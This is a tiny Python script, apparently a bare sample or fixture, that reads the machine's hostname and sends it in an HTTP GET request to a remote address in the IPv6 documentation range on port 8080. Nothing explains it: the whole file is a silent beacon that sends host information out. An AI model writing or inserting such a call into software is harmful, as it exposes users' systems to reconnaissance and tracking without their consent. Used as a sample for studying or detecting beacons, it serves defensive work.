import platform
import urllib.request

urllib.request.urlopen("http://[2001:db8::1]:8080/b?n=" + platform.node(), timeout=3)
